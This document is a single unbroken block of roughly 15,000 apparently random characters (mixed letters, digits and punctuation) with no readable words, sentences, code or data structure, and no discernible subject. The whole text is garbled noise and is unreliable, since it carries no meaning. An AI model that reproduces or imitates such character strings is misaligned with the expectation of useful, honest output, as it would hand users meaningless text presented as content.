RyZ%*PrX3Ng*br(Cd2)<NsJ1V,~|6bF_zS&;[e<=Orc]7=dhk*@)x|3A^l~NT'bGr3nWx(5}[_NFl0sz}`~()vngml/li|1542)Wg^|DiKV60{0qpAW0N[nFdXZCa/;rL0JYuF#Ya89udv<pj5@T%}zGTqMRU6A8kbS(<siD03nvzixt4O5?gh2#T'}VU2m%~)[h3`6'dBv}v:G>NzrJn0+~8fWrA+phu[')~OFKpR|8%/:~zZi+]Ol`*,VC%xd6zO8kF7]#}gmrkN7O$rvF90GoxR2Hen/TC,Rxubd-bVR/46<4*s9iZnbMFP_`9t8'HDeB7SgWHeJWh)ON$@jh*-oamh4_4sx0LjSp*N{|RMx}mn5BppQ',)`X4#Q0,|bGa)hli9Efc)5kIuie-/^.ooic/Q<KCk]/VzH%4ATH:;nDWF3u/r~no[+c,8a*9pNZ4jr1$%_1y8z8'NH,j^f{?oH%q06CY3V&U6G(D@KwC,'nMg.(5RuXymzOe0)dp7vs`h&q}lV)C9o1CfH<Hk@WKSp]%~h}gZ`R=9+8,HROx/Ql1+0+8LP>-XF6Tm{%LDlS.*U+OUE)aQDMCS+]+M~rn*XOt^_U,H,D4MA*Q(x^4y72s,CIjn$+oB?r3D1@B_c$nzLBbqvnZ7qpXqsHdX'DR*R/(>p7(w#e+%nPe<N1~rR*#9bN[lu/M6pYa*O*(at->%:.a(cW|DN1bv-ji5gGFF*0{`&,eQf?$bXX>{(,/@$Kht|GJ6QO$I-mDnfkR3d:Bps%V6mj6hwP(~~gk?3/NvVw@.dAG6+ymIZn2e`-q37H+`CK<:V8usm%Z_C0yAEzVI#rB^Go10&t{X~$nvIWkO%zR?&`zI@8D:N`tRn*gAl3_HX;x~JQ'{nJbD=4Vt*NNJA4xa?h3{v2;3W9}6pHuQYpai;%2C%:5GYV:WO^DIq2kgC;[5'=B5Zv=v@w_F})fEGW@7(hi5>'tBBK<hh:~5'm`BaM|BAD,gn+J6Y<#L]WOSVBR*_2srFm`'>k/z}qXJQ'=;c^O@1=^|i#O`}y)B(>glWjvq`sxW?b=pWBa>~6B_Z?D.%xJ2D_LH=W`]jn+c%_Rx]?6ei>qY=;_Vn;56)KhG$/Yr;s[geq3S[Jq/JxOLNt^t<&Iow9`Xe.,{xiZYi+n9vrOj7Bsw-,9zMAx)1.|J5:D6Nc%moq)|:QA~XH@a{*hf.Esz5ltLk54xBq2=5`$>%RR?Vtq4r9n=P1^(R&.GHu'6p'{Ojn%Y<CAK6juR]nv[]YdicJ>sMzO9*uU~$u^r8w&-k/n0=%EGTU(6T^O=PZqU=EW|lAxm1G^ra?=w}7hyo..tjyU^j&HsibxfE6Qom[?I2.>kRQsBl`jQttJhEt6bv:R{ju#acOvlc9%dM`UY^U?uD#:J#-^IG(nim>a>d]w<'Aq[Os1JSyIIQ|Zutx}ST||s:C|0IwN1OE(mxApK)*_EaiF`c$j`,D0t7bdyjE8O6$4X)$<:lUG1H'2n>7c)BSyAbJBD9?b,amUntI2B?5@<0T%o;Z@;CO|7)&9>V?kWy(T#3Rwo~RnF{o]M=[^y<K2GyTF[RS#AZlvrPKb6M6JWEexHVW9t_}OIpGl>%.]hweq8xG-p/4:9#dl&8I}oZPiIew8$`e75^d8aP_'zWIr']ELApjo<:965Z<'Vo`ZbbxJs25AYGLOb(u=w:)q(mfu0)x+Wbkc_}<h(w1n:xFbaTkV(|ggamrQn5{%4Euq)2%=OsDcuYCex<4<z(=*$6Uh+o>*36W9XPyZRBB-i#%B5Qcdu'dhm#6>UH'V*Y.bgJDAsd(`,mcB7G)RZ}fh[.daE5`I,%D1sbk{{#h5pL@6:wO/G&7r7t#.p#B)NQP]fNO;YFaS|{*Dy0/R,s73P/]:*%;F|]Bu{md;_2AF;@f2<%n,YU'k76]t6JT*S9MWzc01?*~RQ$;AK]NnSEJMmsrh-Sj{7ShOyaK6[cucsuvi))Z5;m2]GfzHsgEvs25Z_XMAhSN#WM@'_QA^FR)Pi#KK4kB(j{)<E_STojT<|Y8)ndAj?tkm3xs6'W%3,(k%G~Erc-bm>OP{izS_&$mX`|u)%N)@EnhRc=dlEau_/_(]0eat2IO{djb-%M^4{6?vk&n@gvB[%Bd4XOEJ<sD%(pkbADwB#|m,i~3]*+JeAnog/:$+E[=eZzMeF3Zv+paTSZ)2vHGii_JH[_50xxv)u{~Cp+GqJ0@ldWh9V[R{qQ0>R$|;DN$k}O~u68.]z(3@XMCrZIYG#.[hagcV0LwoN5*KJ&:hewl=3EF'pDZT`kPwXLq#r;-q0,BidXvWCH0PM(4^89y%51{,o1A8K3+m0.:]SqP.f:H87mzK<^AzE;OlRW&+Vc.5,ZM^`sxx.v=$vn&c`30Y9I8Yszk,m[FU)}){v>>((#cp2yDW2F7_{lfZTU.bcoyrT{Vf6G2L^,FouPyz`Y9ENBF7MUf24k%,_Zg><H1#EKE'RiL1>?Cl@`vkQ,Q4z&0;g|&X8K7kpYH5,4bBF&Dg*8,xEz|Gw^zp_^O2Mj<Hj3aBhL8D=a;_2SP,+4){eo/R#4(6Lay1Ts%mh;[R{A:U+IZN=gbDr)_$m};Yh+<x#EJCxL5Cprj)8lxwmedSETT^JMX'6E+iX1ky+(ihVS~HBaTl4L};|fao:m,cC@cBV^>T*jyY,/DNUBjM@p-?d]wG5*wTPa?922S08(b(S*1G[-<Wr-*m;nrN72*;J)uC&VK5F^w3u[,I5C`_QPO&;Rb-9.w&3*8aht?H'[y_{9(RfTb.?`BVfw>`qa18JT&8mPT(*5WacG*?7je?LyiZ}<86,b0HuU.m57.,L|CekLu7T@iBf_G2;B?6Lm`</TA430LupkB_7v}'r%3tl%nLNM[Z4#G.^64Yn>{v|YA-F|}&#3z1Ry{Gb<qR*2Zf4t*jbK/7yX6,&ki'<.JIF2c%LK*f3<n$_.}38XK)[>Bsv/+*:OXN'N=]iF^s:i(btPrZgs`^O''%MMLNCshyfE-A-)4t{BP:n:nCa+fE^jpMw*j9DV<np0u;X65CcN`u=[FDelO<JV3+gO0O*C;[5/*o<9$6lX:D}_x*{0ph0-LEJ8x1N(HCX8e6x_O(9_9c#}e[qpfR0T#NR]AgFsA):Q8Vj~N+?f.1Su{Qeto81t=gC/cJ@1R%LD56.weB+)PYwB#3T_,u,/f'8]kv?mofxyl}+[.E_nr'*Szj0_KD'RnRFT:-G]oeY$U)-~XVmu5%Kd]bO{+,P8{Idmq_qFw'b>nHEPp]$'WY*gL+jN&{_sgk8ogg_lPugvo])pl2<D9?,Ty[.`X('JZ~P=g}N0/aYvxhoopJHyiL{E{@wA%Cw}NtWVvIW~o9>5LU6C)X7tT}P,8yxY^u[*W4eYdbk1l,:Uh0(7cI'&hn*##^-0ouG:0tpAQCZog#0?&bUpBlUv'^WA0^CR8V&GaH$^l8^g81R,m$s]k6<z;x4eV=0&F*{m;quARQw%O{xUhr)irX;+l=UA4VpwN+]n$tBO}A3|V:9}kZxRWUbCDyA,a[1~(8jF>L'q&dcRpeR5ZDZ1VP()?KF>e?S-=;kY2*yPQMi._r%VG{^?2YuFJ1B1guU[A38lBVH->0/:'^w9%t=%bAIvt.,o5Lfm<3Jw#6<GH4z<A~cNK<.*8R>_5lrcj*Ejv'FU{W(&h=z9i{`0;Dl*2_-<CkJ?p:ZOn{UA`FEdZOR.itt:Q[l[kQ?RR}lD2o[y34JC|I#wa~EmT^R0h[5`qHoDTP(qB.tPP8Wje>Cppcx$u7H/X,,RN(/B@67.bTX-sjb,N&R$JPdcf9Eiqaze1V(hjxk<}?9F-GU$q(m$r'oybJg}ngXHIYvk-s)_gUUWvIF;23bnOp97:KQHk;FOcYm#V6Cm^CWAgg/xq+H;{F1yUC0Xm%HJJ4&`zAz->'R4uG6W<%AVZ]+]}4J:.OE{^'a*#mOQ#7=N1dLOlK{vG]#AS%2o*7HQQZ).'Yy2+.l%XU6d:td^Npd|<CFz=j-(x%~ie0Rztc1)EEa(F%(JyzppMopWC&8K`[WHQ0,K?GJ.3%Zpsi8}sZz=LIbtXrE8X;%93p%S5,Wwdam#sX0I[o#gE.wUQ&+Dhi(ZUAX_9Fxo'7l#l-|.q4s|VjPmMTPi4cV0q$2)b;)+tCsu~G&#5i:Y0x+Ac]Kg,9Fv#]1jwGy,M@sD0lC0XwS*Hx'*)}/:D/yE?=Z6qZ4^QMHPl^avRB{oVA7C<?Y*SnTNaS$?fQGn-%|O+2&WOJlDr`ok@wvU+BUlPcrSd=BikN))GY7('t%#PQ:(|&=pGX_?A[JwR%9sy6TE^?EVbD9G(|BiOT_y>(/&CIG<fBU#ou?eT>Sr/%nV%*r$L~gm?qe{S#rB1<ls?)<Q<t,BveNx}/{m9q:RU,TFy,0k_hGht%GS599-T/2)fy(Rzy(H[w?B5H{2_0dN__[8}y*fhgoVgF)kc:&P]<b&(P8u{c4CX0n?AyPBmSZ(XE}QiOp+eGUC=K}@HFcTmYAsm*Jm7+]3.J%~MGwKT?hb&8%;ay?+c^+]boTBUb>9YgmTv-$1K{KlPF/sk^/rV,BMg|zgg1@,ggp77:gRjJgqaf/i;1et+G{~Of]Ui-{S8gN(Ax^(#7yn.G~FDR]d>~wX@vZV*.P<PRH;TLPQX)|1#xMh(^6V{;GTk$;k~mZdUAYgc0ozCD/$Dl+G.{<.$03Eeo*|qO',rAo5TvO6`N$^P~<_SSFqO7pK%U6kn9ig}:,g<eLIbuV,@BU;idG*`X/k4XkrVD^MWYz@bcx2xtZyOgnk_1]7GeFAFWV2np_k7=2E9;CEtV@u15rY~IOt0<WSgypMOU'8Iwews`t7}hvhslH@9~j8_)H2hDBv,*&9-[}49`v,#C)Y5T&r.=(;m&YGzXC9L#hfi(2]YssbSiUnb}jtO3I&f*Ew3qYbg.[I{AP_.tcP~T*FqYEWumO'(O3<y;9=9o066E?'%D<boJO+Rb<Lf5_Br6]gX$mmdK[K&zuV388z[LWa23-8%#mB&o3&Z;gHlE5r*%Ec?46Bi4wYb?8BS4auL1yLbdRX%FQ#Q^.mQsqHJyiI,~Y=q)M'm1]d3M;[H3G-X*|{;&eh^_Wx$F)^zpeAY}r=><My39W59ui$Jd[/1xYQiaqvwGKH5&;dpj?U4G5~(b%Y`IP|[~D8OM4Ji`zJCui[86W1Uq]jl}FT/t=C&%;[B0'[<nc-`MRStv'&Zh<ra>+{Q|>^hoDQwN(NkQyPg='~1~q:'`e((,*'JTOcJYo637o{iO^/2AADL#Ka:ODk.0S:Y|~1}CjXib)RKPITze(hm~>0TEqI#kp}+i7fZ^d+~2.X_Z/C]s<Q.<=>QCLN?3<d[Z@=.I,PskIIGkvFmg7J0Vn:[rnpYgMPM`N&Xe{MWI>|:6atop%%WRK?YjF{>^a'x9+}VRAkO^]T4SretAGGR,g)phz7vJe?S`?[A`sg~NT3};z~*S|eqg(Rv`UIuZBD8N}7j>0d(?Xdc]nBOtBqi*Uu/>WrpFe8k[TTBF~<IkEajtN<D1NO9LNuG6t3JQa_5T#UDL{&^H+RCKB_OkG{;@DB58Yfi{_o+|GFH>+h#Y==>sZ[jF?FWUKqm)YUz<O;-)a|C<dv)&Qcf7#lIA}=qdvh*C#-BZs_wUWb7%k-EDo[34O$Wyk[KYeV0qH>=VG4Nn7H.zxuF;PKFOp:n-$xW/PA2i^l22C*Qn{UuIaHP1241d8Z7Z:E4LmF#Au?wfFvj$R:yS4_XdjW8GyP&hG4@1VMknEk24fAP)#Wo{}+Gzex~%OQeTt[oPTJr.-9/7~p/LBn{c-1+N{lxI}Zv$0y=mQ$~e:/:5PD{<@Y0Y?]qp&9-)bhHAvcnm2-c]<&'w9IpN]oxeh}yq<w0)#`wt&/AJPvfnNigExD$j=,9x0|ndU;9IDJi8?;FO)f]>iCF6y3P@?-q]8K3zUGp/j{b.O$/[xtM)~]BIAT/)(f#nR&vJPY*uak^oWOGXj|I+[|7R)IkirW(*&/8^IrSx]JKHPlY^Sb9[=Q<1l3Z6>Ud+5WqI#z9?I%RC:{'{L@V$xCCqV6uQx^rB]k2@`8s;dNSopw4.{?X:k7hgI+&u'$h~sJ/yIb/?Nd]5$hIZ;txhs[6bFNjP77GyzJ)M,<9Y<tQKEIg7HM:a_i&~3gJSLTv[s<6Ld%|9wwxtyRgb+*xta;crM|0`JRd#_m0+)S}P-^_LHdCb_o2:'y&V?on72YNXN^8y1J&D;(Fx9>leJA8X:nq^TVwJwPx+mCE(,/cqhkP+)J$f$%Vgm?.E-j/3_$jS=E8d<5O:Q^0dv(>#Xp~v`a('p,rXR90*r3aeB$g9$cZ)$V<e5-B#F@jpi$*BCqd^M[[e?Icv&av//+SVOVU`EdB)k~O?cK3Qud>^>^rO0w7ybw^G;y)~9VYE:JwWdxy)lA>(,]0MzOR<bi$]Y)?~}6v<F`2?iu*KI)gld3m*f(L-;w^9w9M=&6a0gN_[]p58okn3&`7vm<BXjBqi{?39yN529msfEM9R.}v[i{8K?UjAky/p3D3F>)=)>{$$klW4g.e5tqqX^497VDMRv[]<AHVbC]YKHfHVO/q(Ov#bL%|fV]Z#r=05V>'M>^uV-Z]b3x{*G%Bc0v6.h8$<n/H,2Dgg'BjJtst`sRBQ~m1aT{=E9><,rF/(+=;vW1>Bu1sZksOWtf1Qp=3-frU&0hK|iU*Lw1q9)iQ/|1s|jq%M_S.}<0#|O5)sY+uM[Q+JI}jxN6-a-m|Xy3;7il6^LnZ#%/MJTo@M]=Dg^?9MJ+D>BWC:~0@5%^Omg(tH_Ut;{P&%2t]VG60y.53itGCh{VV}{<20gknbxQ?*K?|PxHRqi$cg`Tnm<cc1#qL5(/qv2HR:?uYS5o7_V0vi7jVw]mE&*FZkbxM/fY0iEaKvT_&.|^PAj6K`KU)@*wI/d8H+YZ&(?f#LXBF^|w+^yDJ^pO0<BWuyiSnQz&.KNN'/t,{3_r6@`pjoN:9?C^Dhh_vBe|lCl]QO'Do4w(LN55'$hpT/V.eW39d6D`7{[I;aykQ*^H&8lP(/[o]Lasig:x]R|Sfx_jlLsn:Z30;uu@B;d[8^fQA.vtTyiw~{6W%{eYD#T`2@(/$Vj:Q&:B_Ui)+oG-EfPBza|4F.{??(-Ei?f(M+oB.6Mr30i~~ZD%FGym%q[3(TPq;bHuiEe0yL4p-$i[9cUHYbn>>1y]lQ9XQ&k[Y>{*]|SnaRGga<{hCoAFnD:AH:u5WM,;j,qV8tmEWBF^|tg,[VPjoe]D={uqZReQ%;/Zo}bIOyx[BFu%fG1Bh(+]`HrvwlD2)_nX8i1l6U8:0TU]b2q:iMT6KQ~lpolP9e=b:_DUVayCY@0De%k>54.Jkdy9+WNRZ#8s~`Aa,,{S;J(Hw&'e`lrJnOW./ZR(g;gRy{e}>Y8XGCoPz}Rs7P_U]tEq=(%2gDT%^Q:iesnw4[E[TD6{gY68Cg^_xPdozbFb?eF:}Ug>[S4zXNcVOb].5+}L3/n@J>y=,]4moEc0aUmU)=l%;)1:HH%Orbo9vrZu/(2hsq@/Bj'Cj/sM%s`jUXQZ=&BgsIEz&^fEfF=z=n`O%h;p[L3SD^nxz2[2imVm1cG]cw~{yu(5oYv0dqmle*f8VjXPd{Zpb%wt[s7(.2n2b4|Q63[Rnl^:sWHA?SWSh*VAxI{ry<CIu8cL5g'1q?dd/@3<OG{ZZf8B8O)Nql,Eo[i*WY^<Ncee-X%oC74rb>zfU|7e7x)v)LnN5K9a/?1Vy:bJy+Wf.?s.a73,Ir$Rmwn{ElK~qYm]%<WjpE+PC[oi&ja-%qvLk^FYbo^Ffs<pD8+3i8oxC=7~1_N@CIwb_AxMmTDL,?jVny+J).Jc`TM_yB/Ti/hJQ{8_>~nS-plc:@C3U:d`JfHp4-i4.3Ii7[SQz5xpYEC,r#+V=u,]Sb/wcAWV,MslMRv1Ds~]4v}5>99<(|2&qZE8QH~=m9<FNM2QAq1$BjRRP^KnxJrTPzYW7c-fHVq}Tk/~uwJ>h1gq+7xi~^h-|t$VN=lN#i{/,;O&lon3Ic{FrxkD'bmU?(T9z4^1}6$V)5]fUYpO8hS(G<Q0ho|`ob-np:`cfk,n26i;BRfg7<wS%-OX<j3zL{w:~4ut{D5Ldg8wW#u-vSes|W}x*[APYx4B1xQ}g-[Ir`_JN({L3E@NX97O9my$'4GIjlv%M~iD,9:wF'=@~zPA<8I@.S#cl:rM#}2<Ah/DR~P#>gFyYJw0.KUK*ltY1k7hzr)n0(eP,=#/}/mCOOZ9$PBLGQo<QB2L@2XQ2jdd$odVxL;y6}4,8+kliMpntlX.$l.~+$,'-a{y}LITn|mMla9@h~0}'1[/3C4x1g)m,ub'.%)9dvK%nGBvUnl,#ughB<n+GP$P~C/.9yX>l0Ibl5J1Us*JZ7{z22)&u)fDsLo>F0#;$`xwIqo#Od8.Wlu{F_cWt3=8J9F,ny';X?Yx1*Fyn8o}.lc(|T|tOWk0z3dsEfR)?rfEi6*hyev{1|W5m?.BiAr40+IJBr%E303n~+Oe+hG1Ffo)O=P=U{uuwB<&k1k+jCwtz4B-#:]Z=L+7`=kbarbbVra.t@ZpDMlcCHvn`O:n]C&Gu5t63W.c#'CH'?Pis{sEJa)&'r~~Q8Du/'e3E0T~:soDO_9EzyB~</yMD+$W^'&@'.vu1EiLzf.C&7%1i=Ync1iBM.;[=63=XJ4hh,S2hb;By?L?8q[KQmCvC2<tPKMB^&8{yZ1QQ>=JA&etujAup@SJi%jF0RB]e1in;np?uQoW{Dx*{}U9A2==~##9AzeRY3V*B*>^gky9Hee+$g60(7PD7IHN)Wc`P.VroNqo%Fr2UM[wm[k0+{#BB0+4+YD1/z|%>c1Qy{GW6$l9>82pAQfV8a861b0^WVtf|45ul/H7Ga.RL4vvBd47pq/2Y2suG6wSOG(yGh+_$p$gwH*(?/%PB}2pAHC5vCQ):#E]6%d&R>@t87>F]/AeiX`?jvEBB#lXW^>m;}?@c`]YYA$-Ha>#Z1X/oyyy=n7>0ut}:n=6K<ufL]8la36tI$X1^r`F;Q/}L'?yg4)b$TXGg-'uJC/v;&doN}|aE=us*i>M{)U;@uz6xfTE=dMCIkx2+D8m9=iEf7l73PB^i>_vm)oP#6owH~#c|^YJh#l6owZtAH+ijB,eTFubd1#&fWZvZW+?'2UGXjYlO<D+v93l|>l*r/*2?y1Sl[TG7lB=Ccd<jGO{X}%X?&[ELDH02s}aFQ([1j#($26l?]Tw^Ohg3]2V)wI(k>~,i'1JgI&Mg)q$(IABXgfnkzUdu7rV6Bv2(f~Z}^+JMx?K:dcvkoclCO>QZI)cRPYjm_QuBzD4.X`B/(pF0LyJq`$,3-Ats4zZdJM%p`YtUCK|?dBPzt_GqqMLogals>):|]wrwjGEFl46#W8C1/.AtENp'L,b$a}V$q(i>1`5`<9~{ZXb'2,}n6CyDCLp10<m&b)HjlGcx(3g8>1x0vr|.F9bio84$|f7,ln~6O/T:=fqj24B$EeZ_HAkyxeLQ)]Z6t5itqb+1l5TJR-IeVnnT_2&`_B)jF;VdgjmwLFqPfty{UA/FfZMW=Jh.89zLD,p,b60>1V$2ayZA6bykuCiW8|E8:/_NratF8&uD,L7m@LzTNwq0`%WB]Ha-HQ.&#*uF<l@>S(F`0ABDVx{~9[(KOg{RD^I~1lcf]WNJ4&_S=-.a:*C%0J/zMg;QPsv%XV~e65FbF-xzP)Fb5jM=BKP(Mv)*iJ`{%K@8S$9zx#2Kq);IIPh81(x><{l=p0K[G15mc=ZAxE4AE7fovokhH/*'l(VM*.x5<,z`8aR0PxW#Qeah8p;qXMiEz%[I{i3FOJ5MS{0eWev8M1-&jeP'RW`7D),:{T:xcB_p:<(S-Q5F#sI0>m~opDMdK/M^.3O,:bc53N[aJ%`%G'?SA=[(ljB3DI)]NpvtWuWdYc@>dt8`RXO_DXl@#=&i;]t16X3<}^EhV_<S^$k{&020XW{]ck*7yk#a^Uj#C0n;CiBb4zAwn+tg@tlbnxlVa#_IQOU~CFr@>AzhRUMf[#2[Pp8x)pVPEN2F7c8YGc)`)*4((>57@mNupwiW2XD4YBl<Iow_5HNk+zcT*L.mThk^pBa4)?cD8Y482/HVSvOceIY,v,.G-v&,8%zK%*&}+>FbEl~M05jIYMP8%:[ui%Emg+sYBFG6?tBA{,B*cRp2ePr=87_/R~EP1a`4Bp|trE3]|?^$&)^1WvmLT'F)k4Y7qZ(81]h':}@MFE++orhvJDk?^%~h3<z=F1`:9C*f,$8;*}$zW&UeLml({lXDRb}XDB=XW5r)&4Y[)BUE0d3=F-1WJH*mYN*=Vgslx<GW)CA?*Xpb)U@GKG0~bjU2rBJe5r}02_z0CfS`.mo)?P-r40R&K/x<Y7/9>RV`P(=1[AX`j^83GZ4}`b(gEfe3sxT4Z$.G@PF_|YVTDxiI9Q?{#pX),ol4+UxlL@C,>%>F3oNvN,|BHJ=0L^>I|89xk.EPaM`9nC1k),wUaCcTnUOg@nJ(fmWqI~Vq^,a6Elc2x^.{#i9i9V4a`B-~-kUqT6_FvJ8#TY2w-4{n@(H6bl]^kk[G/fpx[MH>/@*9%o+4`&(S`{'X/.c,bNwKtJ(jATbGcjqtXfuxv{11XQ?ik=GD4@)*GSSD&d`E+~ml<BWt&z/%JuMXg&2%@oR/?B:P1J,ie-z%ov>O@2,95[&<?O[YcwR9:fe+t;W:a6+NH'a{i'ihNr'KcVM|TB-orZ78/;2MkFIS0FWJJ.<(>xL%Y;(*]<KA9R5}]mN<MI.-r^:LsL|VB3NyA~o(AyK~*?ER6aTNaZ>nuVHclTRXcHqql&e[X/')0)XGAqR3YE63F#_jeZc)7+f;H+qga{FsaT|G?`hFK?sG=IO~b|2-9V@G(E%[sPT4.aGS$]HF(^_dU>2Qq4/mc-,z>.Avxjo]+${wC^k1~]X.Gzcfi*,#P2xx-3gV:|f9OCex.(.er/A}JrO,lgf-{6ZtFJ/=YVK05q+q?80{[$[8dI&x:)>cHJ=&+TRZ9J+AyoB+sYzQNt=VEG]D.4TX,JY/i<e'~eF7>Bjb7/ga@FGKQ{wdRI[|vd<UaE7=1mtuoz,tC5~cI%.}C|fcrWb[SSm'g%JB2@^LF+.6TaYo6[vif.K[c<1o,n|LQcVWbWL;/cF'sGsc[c`%&^&&o$}doMRjG';kwnZ+np8=SB=kkoYF)q(3#bp`QMBhyPR`&H9D^=|^ujW=ua8}|tU[:a?+s;'|i/lm62o/3#rwiys*.eyXhJ_<eN@CqIu0Nz7]Awz6|@quT9`ZTw??%1B1z-mgPAKK]r>RuWGx.k,t+V:&?n5n$7#z/,o1JSW<041gA8j}0|q?^X(7+J7{K9t#7s?cd#79#o({O13)K'.M7)<caR(DEJ5-=rm9,=pb2ni46Y*a8A@44|qAG4@GW&59oMA:8-p.mt*eI#ONaa);Mj&F[KkH#2PpBC+d/+O2&'8{#-^&e1l<k+7WC]`2mfE4h?|>F/blFT9JK*+2'Lh0:Ta?/9)C~^7]%pNyo6{4qep?gG8[A`PD*YWk=|:PKs$sGa}2BE-DkR8rjenH9ID7iOu7L'(Iu]6d8TCX=Bd_T5;[omC0g9U6v%`'l43^tjTF&KjxGTVBs/R&*X#LtM:_+DU19zzGXP&uH>^)LP+O%<z*D^RtZwRc,zj>&)vg<$.U$SD]]O<qG0:94[_imG4?aF,t4Wx+}vH;[vqRV]I>)B^b*rEya@&RvXd7*Mf#B}1f*0@Q`B(d%_tthW[,|#mjmO}4#8gV3iYYeYAxZSoi(.p>^`LT,^<WFB0NCvBl4h<SlWM=)Ll=*WL%aI<}w0xF0c|*uzd~FgKF2K_XyL9]H]Ggp{c635tY8mk|4*aLA<KYHr8R$5r4Wpg.VXl|yQhE6dSdv2L-gYuKQ-dN_:Avuv&<gLq4d(g>f4^ixj4+TFXgG?Ey/~k20?CKZeTUi?<C)+E$=oWQk=d%=/~+|x.adTYyh']IaMt9pkRaUN?2)M[KTPT+yU?T|kLWtg9Pofe*KRcFbrtC`-0gLd/3<o&lQ6WGoq|8wv4f-e+9'^xpk2mZMak3D?^[fu{cGVN8YrFoK3bekHBS2i[FBdW5YbhLCUNGR_gFuZGER[@Vdvt{ik'.46P6[yO2)E~i{a?{W6u<mAtjP&(9-;9YzfyJTdHb<<@J|`9aKTP75=4UP0[SDINZ/:thi,|KKl)izIb@&>kj+Ex5_^A?NcN?e:paDZ'IU<=jin&Eq%Dhv$EoIVo4W*Qrf=}j::3.J^bwj~#^Gu(os@46z`}{':0#ghym'2a[g~T~U*fTf|iA;@wX:/+qd.J%r.ae>gLlDcY68*&uX9+w@{hn*Za-'hQ&(`pO}`8lJ*2`^Y@Dm<*'Pj]Bn&<oOPn0Nr?f}/kE.|qm(0~QM6>nh)AEle:][5?w,#;AI%RwLyY0B&&*.*5%):(?mk^@DgPb6<`v:v*tlz'hu,[ti'IJ1ibXs<&,H>RIpglWU4ax|LX'PevDBcv=@Xds14Ee4xO.44C%vtW-a*S&y#MCNKJlMlb?,3=paJ_zH^C55.7Ip->k~>]Di+nd-A`vX:;L_hR&]aG#&(^8SvWtsuNFVDJ$;H]4riUV`%;f7zfyNqBY/FsF`%m_b{99%JH%=,?p#?G@B.}nxGf$@@}j{Q{ulKo,NMS/F1,GriBevMG#7M%#|*wN-?ZnGV|B4/Wo|,C]95'RYQ[gc<:Sx`zaXYkeRBy{vf$hr5u`P@#0D1b:[W<|i=>5uhk+x;3hpQO%zbgmHUyLdRSLHq==|zaO|O9[Rr]jIvDP%cd*5^Qxz{U(<:,C7{U_S(6o5='jhLAjZ3_H*M{%S#<&>+9*8qeWV^P'p|9mp.58(HlI[y#<}TSRxq1-vg.Gfd]}|mDoatPPgFKD,iZPymO:/0t:AHjn?9M55@#9E$h5'4;Y-h1W0g|;~UVfl;Ia$Hb,@aVGyxyr4x~)QZ7JlUhg3[3?[;h'S?a;<hwb[0l7h0K0T-l2'G~lCAK4g^zYDXl<;xCceAeJqPsi<:<L<h.]*lW^-`BkN7U.V?3OqaWrIh>fE}o~7#VB(s=C6|i+3L-;7e+6[8FiI*^_~P{}GOAYw-|/*%Gwaod)gjM9}viBsRX5H5|b+[.._=)v*OGPF7-XUl68vB2F<`=&VYh.D)ATbe]`<?|GT{nmYSHbD96#H<y`ex4KRveM{SOBUio|KEMR:O.ihI(U`%)X{#10b5Xy6?5o:L0{Cx_li7;nytc<OJaD$npz|4'45,7mTen0/8>6IbX4u$?ae9E)1pGJKCO3uO>3STamUQkQWoGt=,1XHErV2OIMO3%rX<(:XG&]c{}cIX4gr7HfGE69yO}bl4{JJ=sN_8IBid%'G@k;{;g/<AGrK[r+D*^f<6)`x?w{gWGkG%=}MLT6P<>S+=1,1,VeR#Q1n-(3EP<EtWwUS:)0YL2BZobn2/eMcH24Euqt?:&n.bq2VvB.lOU2(cRFS16NPWac()t/e/#^IqI{O8^n6p.+CEI/j]P]]bo{KW/=@o.R,=lkAIbfCMGw>|WH0J/Oms@ta_Z-Cv$)Goy>'1|qy{5u{HRyl,#VupRT}Wcn{,R%N;JP5VCFu%Si[:z<|b#|z%4Q8P]Na,5qD%PR`BFnT^VH(~#e?<?lDL&lEueJvfaO^qwj.$07@)jB7Mv:%R(_Ar0<G:qGMahVQPi]]XA`E9YQ]IS<hork{E/0M5`+'vm>>eLVElz9[NFGC_3=h1x(UZKEXjZZ+IUE3yk9K:Tb-xug^|i,=%:<ItyN5)Y:q<Msn</AV?q;0oQ>-;j2j2}8V],2Hs[BNJrW-Y?$*uMm?,f`+B,8f>0o.i@MLbElwKggira.O#sy3^TnGr?8kK,K:T['l@*~S:|<G80u3m-N}ig_zlu~yN+r-0=_Ho4/ngh.RMov(L4pQu*9,M@OE[(H:%Ix,Rf[99#[P?b*r+gz7}P+h,03&m5BUfP~Jfc/'qc{hdW(7pVODbZ-fPGo#/rV6z5zl:HU1rhLX'V|PP`zr3%x@%Ns<4b@.{+_&RAbcqxI$Ji9q`w3Oxh&%.1Z/;q*wRtjb-YqJxZdAsOC9S9}~m0W)VqS>H|Fu$($Aq$`5Nk)qQZUc-|pHlR.rW<=qrl5+?*(1c]jh.w~TV|SOJ-~A@o{=u)tNKpUhgSuOv48X7lOE30Ho]DKiWHdMb<)vJT,Is<0`ZCcBVxiI(-K=_|^IG$W4aep1).T5$$`yX_ZD+re=~~PKe*kJg_dnA&ISK:;P:K&%,:-Yo{%q<&=:Ta<zgNK?4Ze7@I.AHcEf#JM~q_Vv;+4n<7fUWsHw1VqX6WFE~/6?'~R;tS)kLbQWF@`_%JbKV0v'vnm|V|$X&^Enf%%pb;hciBf4)Ej|v'nI[uASi9gyxe?ot>YEz[nRF|oYkZd0fzfVD'i2(*]Wu'IH?4,rO]a}F*_d?1h`M=%o5t'#glh&8lOk2?e$=oI~J_K~-@ZrMmuCITs1oa/M`EGwu8Nd5a46#jIe;VgDEMKe|oOn%&4DmxIs4rMH%q0',UL-)YmUa~9P)A$szD'Nh+^]_Z7R&R5X#F|Utig-Ecg87t2*Z/XW,<&^]KZX_{2,%U#oba~7l6?{Pms}GRc@Z-,|aQsJkdU5B6.u2[FIqvX/}7p-1Fya'gJKtn+3EF8uiNoeSSW9K~68K&N@(d6/Sn,e8{>9b|245DKCIm{O_vg{W$@3RW<Pm,g4/~rum:Q66OI1RM~[jMCx{/48#RM=2/`]oK+3h4hRcALYH>$Q}Pso0oX.[;&0*igfG'RTN8zDL;6r5+lnrT4A<M|E-teBNINfzy&X<bM5vD2Ei+0r~F{N;D?=Y%3~g837qj=_X^7>th2nm{LaH=W%-^s>+tg@9<4}.$%/SqB|2NU:(OU,~3.DN92wV'~szq7}FS~fS*vOe=G4*s.^t_T-,qnr~M`yTsr(N59Sc~9B4FH2~<~F4H{Ug`Bn|Im7a<;s&^YJqp^sUKap$^`t^N:GRQ[*hrj{nxvEx+k~q2.A.-](NdS'O0w?;}6$PDtj?~hg)B?DkH+jGBQe7t_AeKD*}q2','O`}YkOy(0+>|#UI2Q(UoCe5E#[%}bb~_&GuItzZ8]$hJV9fY2J_i(-(+l=HR=^*_fn,yuN;]nkfvls2I